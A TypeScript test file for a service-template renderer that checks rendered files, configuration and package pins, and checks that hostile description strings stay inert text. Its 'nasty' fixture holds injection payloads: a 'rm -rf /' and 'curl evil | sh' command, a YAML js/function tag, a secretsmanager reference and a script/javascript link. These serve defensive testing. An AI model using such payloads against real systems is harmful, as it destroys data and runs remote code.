import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse, parseAllDocuments } from "yaml";
import { createTemplates, type RenderedFile } from "../src/index.ts";

const NAME = "http-api-typescript";
const directory = path.resolve(import.meta.dirname, "../../../templates");

const values = {
  name: "orders",
  owner: "payments",
  description: "Orders of our shops",
  serviceId: "svc_0001",
  repository: "acme/orders",
  environments: ["dev", "prod"],
  parameters: { memorySize: 512, logRetentionDays: 90 },
};

/** What a person may write into a description, and what would take it for its own. */
const nasty = {
  "a template": "${{ 7*7 }}{% raw %}{# x #}",
  "a tag of CloudFormation": "!Ref Secret",
  "another key of YAML": '": \n- a: true\n  b: !!js/function "x"',
  "a command": "$(rm -rf /) `id` ; curl evil | sh",
  "a reference of CloudFormation": "{{resolve:secretsmanager:x}} ${AWS::AccountId}",
  "a script and a heading": '# <script>alert(1)</script> [x](javascript:x) "quoted"',
  "line ends that only some know": "one\u2028two\u0085three\rfour",
};

const skipped = (module: string) =>
  spawnSync("python3", ["-c", `import ${module}`], { stdio: "ignore" }).status === 0
    ? undefined
    : ` (skipped: python3 has no ${module})`;
const withoutLint = skipped("cfnlint");
const withoutYaml = skipped("yaml");

let cacheDir: string;
let templates: ReturnType<typeof createTemplates>;

beforeAll(() => {
  cacheDir = mkdtempSync(path.join(tmpdir(), "turnpike-golden-"));
  templates = createTemplates({ directory, cacheDir });
});

afterAll(async () => {
  await templates.close();
  rmSync(cacheDir, { recursive: true, force: true });
});

/** What a service is given whose owner answers nothing but what they must. */
async function defaults(name: string) {
  const asked = await templates.validate(name, {});
  if (asked.kind !== "valid") throw new Error(JSON.stringify(asked));
  return { ...values, parameters: asked.parameters };
}

const textOf = (files: readonly RenderedFile[], file: string) => {
  const found = files.find((each) => each.path === file);
  if (!found) throw new Error(`${file} was not rendered`);
  return new TextDecoder().decode(found.content);
};

/** Intrinsics of CloudFormation are left as they are: their tags are not this test's matter. */
const documents = (text: string): unknown[] =>
  parseAllDocuments(text, { logLevel: "silent" }).map((document) => {
    expect(document.errors).toEqual([]);
    return document.toJS();
  });

describe.each(readdirSync(directory))("%s", (name) => {
  it("keeps its commands executable, and the same keys in each environment's configuration", async () => {
    const files = await templates.render(name, await defaults(name));
    const modes = Object.fromEntries(files.map(({ path: file, mode }) => [file, mode]));
    for (const command of ["install", "lint", "test", "build", "integration"]) {
      expect(modes[`script/${command}`], command).toBe(0o755);
    }
    const [dev, prod] = ["dev", "prod"].map((each) => JSON.parse(textOf(files, `config/${each}.json`)));
    expect(Object.keys(dev.Parameters)).toEqual(Object.keys(prod.Parameters));
    expect(Object.values({ ...dev.Parameters, ...prod.Parameters }).every((value) => typeof value === "string")).toBe(
      true,
    );
    const lock = files.find(({ path: file }) => file === "package-lock.json");
    expect(lock ? textOf(files, lock.path) : "").not.toContain('"resolved"');
  });

  it.each(Object.entries(nasty))("takes %s in a description for text, everywhere", async (_what, description) => {
    const files = await templates.render(name, { ...(await defaults(name)), description });
    for (const { path: file } of files) {
      if (file.endsWith(".yaml")) documents(textOf(files, file));
      if (file.endsWith(".json")) JSON.parse(textOf(files, file));
    }
    expect(documents(textOf(files, "template.yaml"))[0]).toHaveProperty("Description", `orders: ${description}`);
    expect(documents(textOf(files, "catalog-info.yaml"))[0]).toMatchObject({
      metadata: { name: "orders", description },
    });
    const manifest = files.find(({ path: file }) => file === "package.json");
    if (manifest) expect(JSON.parse(textOf(files, manifest.path)).description).toBe(description);
    const elsewhere = files.filter(({ path: file }) => /^(client|events|src|tests|script|config)\//.test(file));
    for (const { path: file } of elsewhere) expect(textOf(files, file), file).not.toContain(description);
    expect(textOf(files, "template.yaml").split("\nParameters:")[1]).not.toContain("resolve:");
  });
});

describe("the golden path for HTTP APIs in TypeScript", () => {
  it("is offered, whole, and asks only what Turnpike doesn't ask itself", async () => {
    const { templates: offered, broken } = await templates.list();
    expect(broken).toEqual([]);
    expect(offered.map(({ name }) => name)).toContain(NAME);
    expect(await templates.validate(NAME, {})).toEqual({
      kind: "valid",
      parameters: { memorySize: 256, logRetentionDays: 30 },
    });
  });

  it("has what a pipeline and a catalog ask of a repository, its commands executable", async () => {
    const files = await templates.render(NAME, values);
    const modes = Object.fromEntries(files.map(({ path: file, mode }) => [file, mode]));
    for (const command of ["install", "lint", "test", "build", "integration"]) {
      expect(modes[`script/${command}`], command).toBe(0o755);
    }
    for (const file of ["template.yaml", "config/dev.json", "config/prod.json", "openapi.yaml", "catalog-info.yaml"]) {
      expect(modes[file], file).toBe(0o644);
    }
    expect(parse(textOf(files, ".turnpike/origin.yaml")).spec).toEqual({
      ...{ serviceId: "svc_0001", repository: "acme/orders", owner: "payments", description: "Orders of our shops" },
      ...{ template: NAME, version: "1.0.0", environments: ["dev", "prod"], parameters: values.parameters },
    });
  });

  it("configures both environments with the same keys, every parameter a text, as CodePipeline wants it", async () => {
    const files = await templates.render(NAME, values);
    const [dev, prod] = ["dev", "prod"].map((name) => JSON.parse(textOf(files, `config/${name}.json`)));
    expect(Object.keys(dev.Parameters)).toEqual(Object.keys(prod.Parameters));
    expect(prod).toEqual({
      Parameters: {
        Environment: "prod",
        LogLevel: "INFO",
        LogRetentionDays: "90",
        MemorySize: "512",
        TrafficShift: "Canary10Percent5Minutes",
      },
      Tags: { service: "orders", team: "payments", environment: "prod" },
    });
    const { Parameters: declared } = parse(textOf(files, "template.yaml"), { logLevel: "silent" });
    const given = [...Object.keys(dev.Parameters), "CodeBucket", "CodeKey"];
    expect(Object.keys(declared)).toEqual(expect.arrayContaining(given));
    const needed = Object.entries(declared as Record<string, object>).filter(([, one]) => !("Default" in one));
    expect(given).toEqual(expect.arrayContaining(needed.map(([name]) => name)));
  });

  it("installs what its package.json names, from no address of its own, on every platform", async () => {
    const files = await templates.render(NAME, values);
    const manifest = JSON.parse(textOf(files, "package.json"));
    const lock = JSON.parse(textOf(files, "package-lock.json"));
    const { "": root, ...packages } = lock.packages as Record<string, { optionalDependencies?: object }>;
    expect(lock.name).toBe("orders");
    expect(root).toMatchObject({ dependencies: manifest.dependencies, devDependencies: manifest.devDependencies });
    for (const version of Object.values({ ...manifest.dependencies, ...manifest.devDependencies })) {
      expect(version).toMatch(/^\d+\.\d+\.\d+$/);
    }
    expect(textOf(files, "package-lock.json")).not.toContain('"resolved"');
    const optional = Object.values(packages).flatMap((one) => Object.keys(one.optionalDependencies ?? {}));
    expect(optional.length).toBeGreaterThan(10);
    for (const name of optional) expect(packages).toHaveProperty([`node_modules/${name}`]);
  });

  it.each(Object.entries(nasty))("takes %s in a description for text, everywhere", async (_name, description) => {
    const files = await templates.render(NAME, { ...values, description });
    for (const { path: file } of files) {
      if (file.endsWith(".yaml")) documents(textOf(files, file));
      if (file.endsWith(".json")) JSON.parse(textOf(files, file));
    }
    const component = { metadata: { name: "orders", description }, spec: { owner: "group:default/payments" } };
    const catalog = documents(textOf(files, "catalog-info.yaml"));
    expect(catalog).toMatchObject([component, component]);
    expect(documents(textOf(files, "template.yaml"))[0]).toHaveProperty("Description", `orders: ${description}`);
    expect(parse(textOf(files, "openapi.yaml")).info).toEqual({ title: "orders", description, version: "1.0.0" });
    expect(JSON.parse(textOf(files, "package.json")).description).toBe(description);
    expect(parse(textOf(files, ".turnpike/origin.yaml")).spec.description).toBe(description);
    // The third line: one line, and nothing in it that Markdown would read.
    const line = textOf(files, "README.md").split("\n")[2] ?? "";
    expect(line.replace(/\\(.)/g, "$1")).toBe(description.replace(/[\s\u0085]+/g, " ").trim());
    expect(line.replace(/\\./g, "")).not.toMatch(/[<>[\]`{}*_#|]/);
    // Where it may stand at all: nothing that runs, and nothing that CloudFormation evaluates.
    const elsewhere = files.filter(({ path: file }) => /^(src|tests|script|config)\//.test(file));
    for (const { path: file } of elsewhere) expect(textOf(files, file), file).not.toContain(description);
    const resources = textOf(files, "template.yaml").split("\nParameters:")[1];
    expect(resources).not.toContain("resolve:");
  });

  it.skipIf(withoutYaml)(`says the same to a reader of YAML 1.1, as AWS's own is${withoutYaml ?? ""}`, async () => {
    for (const description of Object.values(nasty)) {
      const files = await templates.render(NAME, { ...values, description });
      const script =
        "import json,sys,yaml; print(json.dumps([d['metadata']['description'] for d in yaml.safe_load_all(sys.stdin.buffer.read().decode())]))";
      const { stdout } = spawnSync("python3", ["-c", script], { input: textOf(files, "catalog-info.yaml") });
      expect(JSON.parse(stdout.toString())).toEqual([description, description]);
    }
  });

  it.skipIf(withoutLint)(`is right by cfn-lint, without a warning${withoutLint ?? ""}`, async () => {
    const files = await templates.render(NAME, { ...values, description: nasty["a command"] });
    const file = path.join(cacheDir, "template.yaml");
    writeFileSync(file, textOf(files, "template.yaml"));
    const lint = ["-c", "import cfnlint.runner.cli; cfnlint.runner.cli.main()", file];
    const { status, stdout } = spawnSync("python3", lint, { encoding: "utf8" });
    expect([status, stdout]).toEqual([0, ""]);
  });
});
